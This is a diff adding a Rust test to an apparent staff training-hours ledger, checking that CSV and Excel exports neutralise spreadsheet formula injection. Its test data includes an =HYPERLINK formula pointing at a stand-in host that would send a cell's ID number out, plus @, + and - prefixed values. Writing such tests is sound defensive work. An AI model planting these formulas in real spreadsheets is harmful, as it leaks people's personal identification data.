@@ -91,3 +91,60 @@ fn backup_and_restore_round_trip_and_refuse_a_bad_file() {
     assert_eq!(status_of(&l, 3), "pending");
     assert!(l.ok(&["audit", "verify"]).contains("审计链完整"));
 }
+
+#[test]
+fn formula_text_is_written_as_plain_text_in_every_spreadsheet_file() {
+    let l = Ledger::new();
+    let a = id_number("19800101", 101);
+    let staff = l.write("staff.csv", format!("姓名,身份证号,部门\n张三,{a},-内科\n"));
+    l.ok(&["staff", "import", path_str(&staff)]);
+    let title = r#"=HYPERLINK("http://x.invalid/?"&C2,"详情")"#;
+    let recs = l.write(
+        "records.csv",
+        format!(
+            "身份证号,类别,科目,项目名称,开始日期,结束日期,学时,月数,情形,证明材料\n\
+             {a},training,,\"{}\",2025-03-01,2025-03-01,8,,,@SUM(1)\n",
+            title.replace('"', "\"\"")
+        ),
+    );
+    l.ok(&["records", "import", path_str(&recs)]);
+    l.ok(&["review", "approve", "1", "--by", "+王敏"]);
+
+    let csv_out = l.dir.path().join("upload.csv");
+    l.ok(&["export", "--year", "2025", "--out", path_str(&csv_out)]);
+    let text = String::from_utf8(std::fs::read(&csv_out).unwrap()[3..].to_vec()).unwrap();
+    let row: Vec<String> = csv::Reader::from_reader(text.as_bytes())
+        .records()
+        .next()
+        .unwrap()
+        .unwrap()
+        .iter()
+        .map(String::from)
+        .collect();
+    assert_eq!(row[5], format!("'{title}"));
+    assert_eq!(row[9], "'@SUM(1)");
+    assert_eq!(row[10], "'+王敏");
+    assert_eq!(row[8], "8", "numbers stay numbers");
+
+    let xlsx_out = l.dir.path().join("upload.xlsx");
+    l.ok(&["export", "--year", "2025", "--out", path_str(&xlsx_out)]);
+    use calamine::{Data, Reader};
+    let mut book = calamine::open_workbook_auto(&xlsx_out).unwrap();
+    let sheet = book.worksheet_range("2025年度认定学时").unwrap();
+    assert_eq!(sheet.get((1, 5)), Some(&Data::String(format!("'{title}"))));
+    assert_eq!(sheet.get((1, 8)), Some(&Data::Float(8.0)));
+    let summary = book.worksheet_range("人员汇总").unwrap();
+    assert_eq!(summary.get((1, 2)), Some(&Data::String("'-内科".into())));
+
+    let reminders = l.dir.path().join("提醒.csv");
+    l.ok(&[
+        "notice",
+        "reminders",
+        "--year",
+        "2025",
+        "--out",
+        path_str(&reminders),
+    ]);
+    let text = std::fs::read_to_string(&reminders).unwrap();
+    assert!(text.contains(",'-内科,"), "{text}");
+}
